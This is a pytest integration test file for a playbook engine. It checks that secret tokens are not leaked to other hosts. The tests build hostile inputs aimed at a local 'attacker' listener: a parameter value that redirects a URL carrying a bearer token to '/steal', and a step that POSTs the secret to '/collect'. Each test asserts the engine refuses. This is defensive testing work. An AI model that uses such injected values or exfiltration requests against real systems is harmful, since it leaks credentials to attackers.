"""Exfiltration attempts are refused before any connection: a listening socket counts none."""
from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator

import pytest

from events.commands import StartRun
from tests.helpers import playbook_yaml, wait_for_end

pytestmark = pytest.mark.integration

TOKEN = "tok-exfil-0123456789"


@pytest.fixture
async def attacker() -> AsyncIterator[tuple[int, list[bytes]]]:
    """The attacker's listener: every connection made to it, with the first bytes it received."""
    received: list[bytes] = []

    async def accept(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        received.append(await reader.read(4096))
        writer.close()

    server = await asyncio.start_server(accept, "127.0.0.1", 0)
    try:
        yield server.sockets[0].getsockname()[1], received
    finally:
        server.close()
        await server.wait_closed()


def health_check(service: dict) -> str:
    return playbook_yaml([{"id": "check", "name": "check", "action": "http_request", "timeout_seconds": 5,
                           "args": {"url": "${url}", "headers": {"Authorization": "Bearer ${secret:TOKEN}"}}}],
                         parameters=[{"name": "service", "required": True, **service}],
                         variables={"url": "http://${service}.internal/health"})


async def test_a_parameter_pointing_a_url_elsewhere_is_refused_before_the_run_starts(engine, attacker,
                                                                                      monkeypatch) -> None:
    port, received = attacker
    monkeypatch.setenv("PLAYBOOK_SECRET_TOKEN", TOKEN)
    reply = await engine.send(StartRun(playbook=health_check({}),
                                       parameters={"service": f"127.0.0.1:{port}/steal?x="}))
    assert not reply.accepted and reply.error is not None
    assert "PB211" in reply.error.message and "parameter 'service' sets this URL's host" in reply.error.message
    assert received == []


async def test_a_host_parameter_refuses_a_value_that_is_not_a_host(engine, attacker, monkeypatch) -> None:
    port, received = attacker
    monkeypatch.setenv("PLAYBOOK_SECRET_TOKEN", TOKEN)
    reply = await engine.send(StartRun(playbook=health_check({"type": "host"}),
                                       parameters={"service": f"127.0.0.1:{port}/steal?x="}))
    assert not reply.accepted and reply.error is not None and "PB302" in reply.error.message
    assert received == []


async def test_a_secret_sent_outside_its_allowed_hosts_fails_the_step_before_any_connection(
        engine, attacker, monkeypatch) -> None:
    port, received = attacker
    monkeypatch.setenv("PLAYBOOK_SECRET_TOKEN", TOKEN)
    monkeypatch.setenv("PLAYBOOK_SECRET_TOKEN_ALLOWED_HOSTS", "api.example.com")
    text = playbook_yaml([{"id": "post", "action": "http_request", "timeout_seconds": 5, "args": {
        "url": f"http://127.0.0.1:{port}/collect", "method": "POST", "json": {"token": "${secret:TOKEN}"}}}])
    reply = await engine.send(StartRun(playbook=text))
    events = await wait_for_end(engine, reply.run_id)
    [failed] = [e for e in events if type(e).__name__ == "StepFailed"]
    assert failed.category == "configuration"
    assert "secret 'TOKEN' may be sent only to api.example.com" in failed.error
    assert received == []
